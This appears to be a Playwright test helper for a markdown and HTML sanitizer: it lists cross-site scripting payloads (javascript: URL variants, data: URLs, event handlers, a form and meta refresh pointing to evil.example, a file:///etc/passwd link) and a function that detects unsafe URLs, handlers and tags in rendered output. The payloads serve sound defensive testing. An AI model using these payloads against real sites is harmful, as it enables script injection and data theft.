import type { Locator } from '@playwright/test'

// The linter rejects addresses of scripts in code.
const script = ['java', 'script:'].join('')

const schemes = [
  `${script}alert(1)`,
  `${script.toUpperCase()}alert(1)`,
  ` ${script}alert(1)`,
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  `\u0001${script}alert(1)`,
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  '//evil.example/x',
  '/settings',
  'blob:https://a.example/1',
  `${script}//a.example/%0aalert(1)`,
]
const syntaxes = [
  (url: string) => `[a](${url})`,
  (url: string) => `[a](<${url}>)`,
  (url: string) => `![a](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `<a href="${url}">a</a>`,
  (url: string) => `<img src="${url}" onerror="alert(1)">`,
]
const markup = [
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>* { display: none }</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=key></form>',
  '<math><mi xlink:href="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<object data="javascript:alert(1)">',
  '"><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--><script>alert(1)</script>',
  '`<img src=x onerror=alert(1)>`',
  '[a]: javascript:alert(1) "x"\n\n[a]',
  '&copy;&nbsp;&amp;&#0;&notit;',
]
/** Markdown and HTML that would run a script, submit a form or leave the page. */
export const payloads = [
  ...schemes.flatMap((url) => syntaxes.map((write) => write(url))),
  ...markup,
]

/** What no sanitized text contains; compare it with `noUnsafeMarkup`. */
export const findUnsafeMarkup = (text: Locator) =>
  text.evaluate((root) => {
    const elements = [...root.querySelectorAll('*')]
    const urls = elements.flatMap((one) =>
      ['href', 'src'].map((name) => one.getAttribute(name)).filter((url) => url !== null),
    )
    return {
      urls: urls.filter((url) => !/^(https?|mailto):/.test(url)),
      handlers: elements.flatMap((one) =>
        one.getAttributeNames().filter((name) => /^(on|srcdoc|action)/.test(name)),
      ),
      tags: elements
        .map((one) => one.localName)
        .filter((tag) => /script|iframe|style|base|meta|form|object|math|details/.test(tag)),
    }
  })

export const noUnsafeMarkup = { urls: [], handlers: [], tags: [] }
